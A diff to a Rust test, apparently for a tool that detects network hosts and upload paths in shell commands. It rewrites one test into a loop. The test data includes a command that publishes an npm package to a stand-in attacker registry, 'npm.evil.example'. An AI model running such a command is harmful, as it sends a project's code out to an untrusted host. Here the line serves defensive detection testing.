@@ -109,12 +109,12 @@ mod tests {
 
     #[test]
     fn publish_goes_to_the_registry() {
-        let n = one("npm publish --registry https://npm.evil.example/");
-        assert_eq!(n.hosts, s(&["npm.evil.example"]));
-        let n = one("cargo publish");
-        assert_eq!(n.hosts, s(&["crates.io"]));
-        let n = one("twine upload dist/*");
-        assert_eq!(n.upload_paths, s(&["dist/*"]));
+        for (cmd, registry) in
+            [("npm publish --registry https://npm.evil.example/", "npm.evil.example"), ("cargo publish", "crates.io")]
+        {
+            assert_eq!(one(cmd).hosts, s(&[registry]), "{cmd}");
+        }
+        assert_eq!(one("twine upload dist/*").upload_paths, s(&["dist/*"]));
         assert!(net("npm install && npm test && cargo build --release").is_empty());
     }
 }
